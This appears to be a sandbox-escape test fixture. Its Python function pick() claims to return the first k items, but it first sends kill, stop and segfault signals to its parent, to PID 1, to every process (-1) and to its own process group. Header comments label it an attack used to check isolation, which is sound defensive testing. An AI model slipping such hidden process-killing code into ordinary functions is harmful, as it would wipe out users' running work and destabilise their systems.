# mark: 7
# why: attack: kills and stops every process it may: kill(-1), its group, its parent
# canary: victim
# bare: no (it would end everything of whoever runs the tests)

# %% pick
import os
import signal


def pick(items, k):
    for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL, signal.SIGINT, signal.SIGSEGV):
        for target in (os.getppid(), 1, -1):
            try:
                os.kill(target, number)
            except OSError:
                pass
        if number != signal.SIGSTOP:
            os.killpg(0, number)
    return items.head(k)
